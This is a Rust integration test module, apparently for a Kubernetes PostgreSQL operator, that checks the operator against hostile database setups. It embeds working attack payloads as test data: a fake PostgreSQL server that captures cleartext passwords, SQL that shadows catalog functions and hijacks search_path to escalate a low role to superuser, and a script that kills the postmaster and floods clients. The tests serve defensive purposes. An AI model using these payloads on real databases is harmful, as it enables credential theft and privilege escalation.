//! Databases whose owners, settings and servers mean harm.

use serde_json::json;

use super::{NAMESPACE, VICTIM};
use crate::harness::{TestNamespace, ended, psql, sample_or_all, secret, show, tutorial};

/// The Secret with settings of the victim.
pub(super) const SETTINGS: &str = "victim-settings";
/// Its pod.
const POD: &str = "victim-0";

/// Writes the settings that the victim's owner keeps in a Secret.
pub(super) fn settings(namespace: &TestNamespace<'_>, user_conf: &str) {
    namespace.apply(&json!({
        "apiVersion": "v1", "kind": "Secret", "metadata": {"name": SETTINGS}, "stringData": {"user.conf": user_conf},
    }));
}

fn sql(namespace: &TestNamespace<'_>, query: &str) -> String {
    psql(namespace, POD, "user=postgres", query).unwrap_or_else(|why| panic!("{query}: {why}"))
}

fn blocked(namespace: &TestNamespace<'_>) -> String {
    namespace.condition(&format!("pg/{VICTIM}"), "Blocked", "message")
}

/// Lines that Patroni hands on and PostgreSQL does not read: with one of them in its files no
/// server starts.
pub(super) const UNREADABLE: [&str; 5] = [
    r"log_line_prefix = '%m\n'",
    "foo. = 1",
    "a..b = 1",
    "a.1 = 1",
    "log_line_prefix = 'a\u{1}b'",
];

pub(super) async fn settings_that_cannot_be_read_stop_no_pod(namespace: &TestNamespace<'_>) {
    for line in &UNREADABLE[..sample_or_all(2, UNREADABLE.len())] {
        settings(namespace, &format!("work_mem = 8MB\n{line}\n"));
        namespace
            .until(line, 60, || blocked(namespace).contains("line 2"))
            .await;
        assert!(
            !blocked(namespace).contains(line),
            "the line of a Secret is shown: {}",
            blocked(namespace)
        );
    }
    let uid = namespace.path(&format!("pod/{POD}"), ".metadata.uid");
    namespace.kubectl(&["delete", "pod", POD]);
    namespace
        .until("the pod is made anew", 60, || {
            let now = namespace.path(&format!("pod/{POD}"), ".metadata.uid");
            !now.is_empty() && now != uid
        })
        .await;
    namespace.kubectl(&["wait", "pod", POD, "--for=condition=Ready", "--timeout=90s"]);
    assert_eq!(
        show(namespace, POD, "log_line_prefix"),
        "from a secret %m:",
        "what was good last is kept"
    );
    settings(namespace, "log_line_prefix = 'from a secret %m:'\n");
    namespace
        .until("the database is looked after again", 60, || {
            blocked(namespace).is_empty()
        })
        .await;
    namespace.until_phase(VICTIM, "Ready", 90).await;
}

/// Asks whoever comes for a password in clear, and prints what it gets.
const IMPOSTOR: &str = r"
import socket
listener = socket.create_server(('', 5432))
print('listening', flush=True)
while True:
    caller, _ = listener.accept()
    caller.settimeout(5)
    try:
        first = caller.recv(1024)
        if first[4:8] == b'\x04\xd2\x16\x2f':
            caller.sendall(b'N')
            first = caller.recv(1024)
        print('called', first, flush=True)
        caller.sendall(b'R\x00\x00\x00\x08\x00\x00\x00\x03')
        print('told', caller.recv(1024), flush=True)
    except OSError as error:
        print(error, flush=True)
    caller.close()
";

pub(super) async fn an_impostor_gets_nothing(namespace: &TestNamespace<'_>) {
    const NAME: &str = "impostor";
    let mut labels = json!({
        "app.kubernetes.io/name": "postgreses.kubedb.com", "app.kubernetes.io/instance": VICTIM,
        "app.kubernetes.io/managed-by": "kubedb.com", "postgreses.kubedb.com/database.cluster": VICTIM,
    });
    labels["app.kubernetes.io/component"] = json!("database");
    namespace.apply(&json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": NAME, "labels": labels},
        "spec": {
            "terminationGracePeriodSeconds": 0,
            "securityContext": {"runAsUser": 999, "runAsNonRoot": true, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [{
                "name": "postgres", "image": "pgrekey.local/postgres:17", "imagePullPolicy": "IfNotPresent",
                "command": ["python3", "-c", IMPOSTOR],
                "resources": {"requests": {"cpu": "10m"}},
                "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
            }],
        },
    }));
    namespace.kubectl(&[
        "wait",
        "pod",
        NAME,
        "--for=condition=Ready",
        "--timeout=60s",
    ]);
    // It is not waited for, not restarted, and not asked: neither by checks nor by an operation.
    namespace.apply(&json!({
        "apiVersion": "ops.kubedb.com/v1alpha1", "kind": "PostgresOpsRequest", "metadata": {"name": "restart"},
        "spec": {"type": "Restart", "databaseRef": {"name": VICTIM}},
    }));
    assert_eq!(ended(namespace, "restart", 120).await, "Successful");
    namespace.until_phase(VICTIM, "Ready", 60).await;
    let heard = namespace.kubectl(&["logs", NAME]);
    assert_eq!(heard.trim(), "listening", "the impostor was asked");
    namespace.kubectl(&["delete", "pod", NAME, "--wait=false"]);
}

/// For each function of PostgreSQL one of the same name and exactly these arguments, in `public`
/// and in the schema that is named like the superuser: called by a superuser it makes `low` one.
/// Polymorphic arguments get the types that are asked with.
const SHADOWS: &str = r#"
create role low login;
create schema postgres authorization low;
grant create on schema public to low;
create schema evil authorization low;
do $do$
declare
    f record;
    made int := 0;
begin
    set local role low;
    for f in
        select p.proname, s.nspname, replace(replace(replace(replace(replace(replace(replace(
                   pg_catalog.pg_get_function_identity_arguments(p.oid),
                   'anycompatiblearray', 'text[]'), 'anyarray', 'text[]'), 'anycompatible', 'text'), 'anyelement', 'text'),
                   'VARIADIC "any"', 'VARIADIC text[]'), '"any"', 'text'), 'anynonarray', 'text') as arguments
        from pg_catalog.pg_proc p, (values ('public'), ('postgres')) s(nspname)
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind in ('f', 'a', 'w')
    loop
        begin
            execute pg_catalog.format(
                'create function %I.%I(%s) returns text language plpgsql as $f$ begin execute ''alter role low superuser''; return null; end $f$',
                f.nspname, f.proname, pg_catalog.regexp_replace(f.arguments, '\mOUT [^,]*(, )?|, OUT [^,]*', '', 'g'));
            made := made + 1;
        exception when others then null;
        end;
    end loop;
    if made < 2000 then raise exception 'only % functions', made; end if;
end
$do$;
-- The ones that pgrekey once called, with the types that it called them with.
set role low;
drop function public.unnest(text[]);
create function public.unnest(text[]) returns setof text language plpgsql as
    $f$ begin execute 'alter role low superuser'; return query select pg_catalog.unnest($1); end $f$;
create function public.json_agg(record) returns json language plpgsql as
    $f$ begin execute 'alter role low superuser'; return null; end $f$;
create function public.gather(text, text) returns text language plpgsql as
    $f$ begin execute 'alter role low superuser'; return $1; end $f$;
drop function if exists public.array_agg(text);
create aggregate public.array_agg(text) (sfunc = public.gather, stype = text);
create function public.pg_read_binary_file(text, int, int, boolean) returns bytea language plpgsql as
    $f$ begin execute 'alter role low superuser'; return null; end $f$;
do $do$
declare v text;
begin
    foreach v in array array['pg_hba_file_rules', 'pg_stat_replication', 'pg_stat_ssl', 'pg_settings', 'pg_authid', 'pg_roles',
                             'pg_replication_slots', 'pg_stat_activity', 'pg_stat_wal_receiver', 'pg_file_settings'] loop
        execute pg_catalog.format('create view evil.%I as select n, pg_catalog.repeat(''x'', 1000000) as line from pg_catalog.generate_series(1, 1000000) n', v);
    end loop;
end
$do$;
reset role;
alter role postgres set search_path = evil, public, pg_catalog;
alter database postgres set search_path = evil, public, pg_catalog;
alter role postgres set statement_timeout = 0;
alter role postgres set log_statement = 'all';
"#;

pub(super) async fn functions_and_views_of_others_are_not_called(namespace: &TestNamespace<'_>) {
    sql(namespace, SHADOWS);
    let is_superuser = || {
        sql(
            namespace,
            "set search_path = pg_catalog; select rolsuper from pg_catalog.pg_roles where rolname = 'low'",
        )
    };
    assert!(is_superuser().ends_with('f'));
    let mut request = tutorial("add-tls.yaml");
    request["spec"]["databaseRef"]["name"] = json!(VICTIM);
    namespace.apply(&request);
    assert_eq!(ended(namespace, "add-tls", 180).await, "Successful");
    namespace.until_phase(VICTIM, "Ready", 60).await;
    assert!(
        is_superuser().ends_with('f'),
        "a function of low's was called by the superuser"
    );
    sql(
        namespace,
        "alter role postgres reset all; alter database postgres reset all; drop owned by low cascade; drop role low",
    );
    let password = secret(namespace, &format!("{VICTIM}-auth"), "password");
    let log = namespace.kubectl(&["logs", POD, "-c", "postgres"]);
    for spilled in [
        password.as_str(),
        "alter role postgres password",
        "SCRAM-SHA-256$",
    ] {
        assert!(!log.contains(spilled), "{spilled} is in the log");
    }
}

/// Takes the server's place for a while, and sends an error that has no end.
const ENDLESS: &str = r"
import os, signal, socket, time

def kill():
    found = [os.path.join(folder, 'postmaster.pid') for folder, _, files in os.walk('/var/pv') if 'postmaster.pid' in files]
    os.kill(int(open(found[0]).readline()), signal.SIGKILL)

kill()
end = time.time() + 12
listener = None
while listener is None:
    try:
        listener = socket.create_server(('', 5432))
    except OSError:
        time.sleep(0.001)
listener.settimeout(1)
calls = sent = 0
while time.time() < end:
    try:
        caller, _ = listener.accept()
    except OSError:
        continue
    calls += 1
    caller.settimeout(1)
    try:
        caller.recv(1024)
        caller.sendall(b'E\x7f\xff\xff\xff')
        while True:
            sent += caller.send(b'x' * 1048576)
    except OSError:
        pass
    caller.close()
listener.close()
# The server was started beside it, and listens where it could.
kill()
print(calls, sent)
";

pub(super) async fn a_server_that_never_ends_its_answer_is_left(namespace: &TestNamespace<'_>) {
    let said = namespace.kubectl(&[
        "exec", POD, "-c", "postgres", "--", "python3", "-c", ENDLESS,
    ]);
    let numbers: Vec<u64> = said
        .split_whitespace()
        .filter_map(|word| word.parse().ok())
        .collect();
    let [calls, sent] = numbers[..] else {
        panic!("{said}")
    };
    println!("an endless answer: {calls} calls, {sent} bytes were sent");
    assert!(calls > 0, "nobody called {NAMESPACE}/{POD}");
    // What the sockets' buffers hold is sent too, whoever reads it.
    assert!(sent / calls < 16 * 1024 * 1024, "{said}");
    namespace.until_phase(VICTIM, "Ready", 120).await;
}
